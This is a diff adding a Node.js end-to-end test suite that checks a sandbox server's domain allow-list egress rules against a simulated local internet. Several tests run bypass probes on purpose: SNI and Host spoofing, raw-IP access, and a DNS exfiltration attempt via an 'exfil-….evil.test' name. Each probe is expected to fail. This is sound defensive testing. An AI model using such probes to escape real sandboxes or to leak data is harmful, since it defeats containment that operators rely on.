@@ -1,0 +1,294 @@
+// Domain rules (E2B's network.allowOut with domain names + denyOut
+// 0.0.0.0/0) through the official SDK, against a simulated internet: an
+// uplink namespace on 198.18.90.0/24 (gateway .1, host .2) with web
+// servers on 198.19.91.10 and .11 (HTTP :80, HTTPS :443 answering with the
+// SNI and Host they saw, a plain TCP port) and a DNS server on
+// 198.19.91.53 for the *.allowed.test names. `moat serve` forwards allowed
+// names to that DNS server (MOAT_DNS_UPSTREAM). Addresses and names
+// (mtdn-*) are this file's own. Nothing leaves the namespaces it makes.
+//
+// MOAT_E2E_BENCH=1 also measures HTTPS latency and a 100 MiB download with
+// no policy vs a domain allow list.
+import { test, before, after } from 'node:test'
+import assert from 'node:assert/strict'
+import { execFileSync } from 'node:child_process'
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import os from 'node:os'
+import path from 'node:path'
+
+import { Sandbox } from 'e2b'
+
+import { useServer, createSandbox, run, sleep, template, simulatedUplink } from './harness.mjs'
+
+const NS = 'mtdn-uplink'
+const HOST_IF = 'mtdn0'
+const GW = '198.18.90.1'
+const HOST = '198.18.90.2'
+const WEB = '198.19.91.10'
+const WEB2 = '198.19.91.11'
+const DNS = '198.19.91.53'
+const PLAIN_PORT = 18091
+
+// The server inherits the environment: allowed names are resolved by the
+// simulated internet's DNS server.
+if (!process.env.MOAT_E2E_API_URL) process.env.MOAT_DNS_UPSTREAM = DNS
+
+useServer()
+
+const ZONE = {
+  'api.allowed.test': WEB,
+  'other.allowed.test': WEB,
+  'allowed.test': WEB,
+  'deep.sub.allowed.test': WEB,
+  'evil.test': WEB2,
+}
+
+let uplink = null
+let dir = ''
+
+// One process serves everything in the uplink namespace. The DNS server
+// logs every name it is asked for.
+const serverPy = `
+import socket, ssl, threading, sys, struct, json, os
+d = sys.argv[1]
+zone = json.loads(sys.argv[2])
+qlog = open(os.path.join(d, 'dns.log'), 'a', buffering=1)
+BIG = 100 << 20
+def serve(conn, tls):
+    try:
+        conn.settimeout(30)
+        data = b''
+        while b'\\r\\n\\r\\n' not in data:
+            b = conn.recv(4096)
+            if not b: return
+            data += b
+        lines = data.split(b'\\r\\n')
+        target = lines[0].split()[1].decode()
+        host = ''
+        for l in lines[1:]:
+            if l.lower().startswith(b'host:'): host = l[5:].strip().decode()
+        sni = getattr(conn, 'sni', '') if tls else ''
+        if target == '/big':
+            conn.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' % BIG)
+            chunk = b'x' * (1 << 20)
+            for _ in range(BIG >> 20): conn.sendall(chunk)
+        else:
+            body = ('sni=%s host=%s' % (sni, host)).encode()
+            conn.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' % len(body) + body)
+    except Exception:
+        pass
+    finally:
+        conn.close()
+def listen(port):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(('0.0.0.0', port)); s.listen(128); return s
+def http():
+    s = listen(80)
+    while True:
+        c, _ = s.accept(); threading.Thread(target=serve, args=(c, False), daemon=True).start()
+def https():
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(os.path.join(d, 'cert.pem'), os.path.join(d, 'key.pem'))
+    def cb(sock, name, _):
+        sock.sni = name or ''
+    ctx.sni_callback = cb
+    s = listen(443)
+    while True:
+        c, _ = s.accept()
+        def hs(c=c):
+            try:
+                c.settimeout(10)
+                t = ctx.wrap_socket(c, server_side=True)
+            except Exception:
+                c.close(); return
+            serve(t, True)
+        threading.Thread(target=hs, daemon=True).start()
+def plain():
+    s = listen(${PLAIN_PORT})
+    while True:
+        c, _ = s.accept(); c.sendall(b'hello'); c.close()
+def dns():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('${DNS}', 53))
+    while True:
+        q, a = s.recvfrom(2048)
+        try:
+            i, labels = 12, []
+            while q[i]:
+                labels.append(q[i+1:i+1+q[i]].decode()); i += 1 + q[i]
+            qtype = struct.unpack('!H', q[i+1:i+3])[0]
+            name = '.'.join(labels).lower()
+            qlog.write(name + '\\n')
+            question = q[12:i+5]
+            addr = zone.get(name)
+            if addr is None:
+                s.sendto(q[:2] + b'\\x81\\x83' + b'\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + question, a); continue
+            ans = b''
+            if qtype == 1:
+                ans = b'\\xc0\\x0c\\x00\\x01\\x00\\x01' + struct.pack('!IH', 300, 4) + socket.inet_aton(addr)
+            s.sendto(q[:2] + b'\\x81\\x80' + struct.pack('!HHHH', 1, 1 if ans else 0, 0, 0) + question + ans, a)
+        except Exception:
+            pass
+for fn in (http, https, plain, dns):
+    threading.Thread(target=fn, daemon=True).start()
+print('ready', flush=True)
+threading.Event().wait()
+`
+
+before(async () => {
+  dir = mkdtempSync(path.join(os.tmpdir(), 'moat-domains-'))
+  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-subj', '/CN=allowed.test',
+    '-addext', 'subjectAltName=DNS:allowed.test,DNS:*.allowed.test',
+    '-keyout', path.join(dir, 'key.pem'), '-out', path.join(dir, 'cert.pem')], { stdio: 'ignore' })
+  uplink = await simulatedUplink({
+    ns: NS, hostIf: HOST_IF, host: HOST, gw: GW, internet: [WEB, WEB2, DNS], route: '198.19.91.0/24',
+    serverPy, args: [dir, JSON.stringify(ZONE)],
+  })
+}, { timeout: 60_000 })
+
+after(() => {
+  uplink?.teardown()
+  if (dir) rmSync(dir, { recursive: true, force: true })
+})
+
+// client runs one probe in the sandbox and prints its result or "fail":
+//   dns NAME               the address NAME resolves to
+//   dnsat SERVER NAME      a raw A query sent straight to SERVER:53
+//   https IP SNI [PATH]    GET over TLS to IP with SNI (certificate not checked)
+//   http IP HOST           GET over HTTP to IP with Host
+//   tcp IP PORT            the first bytes of a plain TCP connection
+const clientPy = `
+import socket, ssl, sys, struct, time
+def get(sock, host, path='/'):
+    sock.sendall(('GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n' % (path, host)).encode())
+    n, body = 0, b''
+    while True:
+        b = sock.recv(1 << 16)
+        if not b: break
+        n += len(b)
+        if len(body) < 4096: body += b
+    return n, body
+def tls(ip, sni):
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    return ctx.wrap_socket(socket.create_connection((ip, 443), timeout=5), server_hostname=sni)
+op = sys.argv[1]
+try:
+    if op == 'dns':
+        print(socket.gethostbyname(sys.argv[2]))
+    elif op == 'dnsat':
+        q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(l)]) + l.encode() for l in sys.argv[3].split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(q, (sys.argv[2], 53))
+        r = u.recv(2048); print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('!H', r[6:8])[0]))
+    elif op == 'https':
+        n, body = get(tls(sys.argv[2], sys.argv[3]), sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else '/')
+        print(body.split(b'\\r\\n\\r\\n', 1)[1].decode() if n < 4096 else 'bytes=%d' % n)
+    elif op == 'http':
+        n, body = get(socket.create_connection((sys.argv[2], 80), timeout=5), sys.argv[3])
+        print(body.split(b'\\r\\n\\r\\n', 1)[1].decode())
+    elif op == 'tcp':
+        s = socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=3)
+        print(s.recv(5).decode() or 'fail')
+    elif op == 'bench':
+        # bench IP SNI N: N sequential HTTPS requests (connect + handshake +
+        # GET), then 3 downloads of /big; prints the times in ms.
+        ip, sni, n = sys.argv[2], sys.argv[3], int(sys.argv[4])
+        lat, dl = [], []
+        for _ in range(n):
+            t = time.perf_counter(); get(tls(ip, sni), sni); lat.append((time.perf_counter() - t) * 1000)
+        for _ in range(3):
+            t = time.perf_counter(); got, _ = get(tls(ip, sni), sni, '/big'); dl.append((time.perf_counter() - t) * 1000)
+            assert got > 100 << 20, got
+        print(' '.join('%.2f' % x for x in lat) + ' | ' + ' '.join('%.1f' % x for x in dl))
+except Exception as e:
+    print('fail', type(e).__name__)
+`
+
+async function prepared(t, opts) {
+  const sbx = await createSandbox(t, opts)
+  await sbx.files.write('/tmp/c.py', clientPy)
+  return sbx
+}
+
+async function probe(sbx, ...args) {
+  const r = await run(sbx, `python3 /tmp/c.py ${args.join(' ')}`, {}, 60_000)
+  assert.equal(r.exitCode, 0, `probe ${args} failed: ${r.stderr}`)
+  return r.stdout.trim()
+}
+
+const dnsLog = () => readFileSync(path.join(dir, 'dns.log'), 'utf8').split('\n')
+const failed = (s) => s.startsWith('fail')
+
+test('allowOut one name with deny-all: its HTTPS and HTTP pass, nothing else does', { timeout: 300_000 }, async (t) => {
+  const sbx = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
+  assert.equal(await probe(sbx, 'dns', 'api.allowed.test'), WEB)
+  assert.equal(await probe(sbx, 'https', WEB, 'api.allowed.test'), 'sni=api.allowed.test host=api.allowed.test')
+  assert.equal(await probe(sbx, 'http', WEB, 'api.allowed.test'), 'sni= host=api.allowed.test')
+
+  // The second name on the same IP: no DNS answer, and no way through by SNI or Host.
+  assert.ok(failed(await probe(sbx, 'dns', 'other.allowed.test')))
+  assert.ok(failed(await probe(sbx, 'https', WEB, 'other.allowed.test')))
+  assert.ok(failed(await probe(sbx, 'http', WEB, 'other.allowed.test')))
+  // A raw IP: other port, no SNI, IP as Host.
+  assert.ok(failed(await probe(sbx, 'tcp', WEB, PLAIN_PORT)))
+  assert.ok(failed(await probe(sbx, 'http', WEB, WEB)))
+  // SNI/Host naming the allowed name at an address it did not resolve to.
+  assert.ok(failed(await probe(sbx, 'https', WEB2, 'api.allowed.test')))
+  assert.ok(failed(await probe(sbx, 'http', WEB2, 'api.allowed.test')))
+
+  // DNS cannot carry data out: other names get NXDOMAIN from the host even
+  // when asked of another server directly, and never reach any upstream.
+  const secret = `exfil-${Date.now()}.evil.test`
+  assert.ok(failed(await probe(sbx, 'dns', secret)))
+  assert.equal(await probe(sbx, 'dnsat', DNS, secret), 'rcode=3 answers=0')
+  // (198.19.91.99 is routed into the uplink namespace but nobody answers there.)
+  assert.equal(await probe(sbx, 'dnsat', '198.19.91.99', secret), 'rcode=3 answers=0')
+  assert.ok(!dnsLog().some((l) => l.includes('exfil-')), 'a refused name reached the DNS server')
+  assert.ok(dnsLog().includes('api.allowed.test'))
+})
+
+test('*.allowed.test matches subdomains only, and updateNetwork swaps the list live', { timeout: 300_000 }, async (t) => {
+  const sbx = await prepared(t, { network: { allowOut: ['*.allowed.test'], denyOut: ['0.0.0.0/0'] } })
+  for (const n of ['api.allowed.test', 'other.allowed.test', 'deep.sub.allowed.test']) {
+    assert.equal(await probe(sbx, 'dns', n), WEB)
+    assert.equal(await probe(sbx, 'https', WEB, n), `sni=${n} host=${n}`)
+  }
+  assert.ok(failed(await probe(sbx, 'dns', 'allowed.test')))
+  assert.ok(failed(await probe(sbx, 'https', WEB, 'allowed.test')))
+
+  await sbx.updateNetwork({ allowOut: ['other.allowed.test'], denyOut: ['0.0.0.0/0'] })
+  assert.ok(failed(await probe(sbx, 'https', WEB, 'api.allowed.test')))
+  assert.ok(failed(await probe(sbx, 'dns', 'api.allowed.test')))
+  assert.equal(await probe(sbx, 'https', WEB, 'other.allowed.test'), 'sni=other.allowed.test host=other.allowed.test')
+
+  // Back to plain deny-all: the proxy is out of the path and nothing passes.
+  await sbx.updateNetwork({ denyOut: ['0.0.0.0/0'] })
+  assert.ok(failed(await probe(sbx, 'https', WEB, 'other.allowed.test')))
+})
+
+test('domains without denyOut 0.0.0.0/0 are refused with 400', { timeout: 120_000 }, async () => {
+  await assert.rejects(
+    Sandbox.create(template, { network: { allowOut: ['api.allowed.test'] } }),
+    (err) => /0\.0\.0\.0\/0/.test(err.message) && /allowOut/.test(err.message),
+  )
+})
+
+const median = (xs) => { const s = [...xs].sort((a, b) => a - b); return s[Math.floor(s.length / 2)] }
+
+test('benchmark: HTTPS latency and 100 MiB download, no policy vs domain allow list',
+  { timeout: 600_000, skip: !process.env.MOAT_E2E_BENCH }, async (t) => {
+    const open = await prepared(t, {})
+    const ruled = await prepared(t, { network: { allowOut: ['api.allowed.test'], denyOut: ['0.0.0.0/0'] } })
+    assert.equal(await probe(ruled, 'dns', 'api.allowed.test'), WEB)
+    const res = {}
+    for (const [name, sbx] of [['no policy', open], ['domain allow list', ruled]]) {
+      const out = await run(sbx, `python3 /tmp/c.py bench ${WEB} api.allowed.test 50`, {}, 300_000)
+      assert.ok(!out.stdout.startsWith('fail'), out.stdout + out.stderr)
+      const [lat, dl] = out.stdout.trim().split(' | ').map((s) => s.split(' ').map(Number))
+      res[name] = { latencyMs: median(lat), downloadMs: median(dl) }
+    }
+    const a = res['no policy']; const b = res['domain allow list']
+    console.log(`HTTPS request (connect+TLS+GET), median of 50: no policy ${a.latencyMs.toFixed(2)} ms, ` +
+      `domain list ${b.latencyMs.toFixed(2)} ms, ratio ${(b.latencyMs / a.latencyMs).toFixed(2)}`)
+    console.log(`100 MiB HTTPS download, median of 3: no policy ${a.downloadMs.toFixed(0)} ms ` +
+      `(${(100 / (a.downloadMs / 1000)).toFixed(0)} MiB/s), domain list ${b.downloadMs.toFixed(0)} ms ` +
+      `(${(100 / (b.downloadMs / 1000)).toFixed(0)} MiB/s), ratio ${(b.downloadMs / a.downloadMs).toFixed(2)}`)
+  })
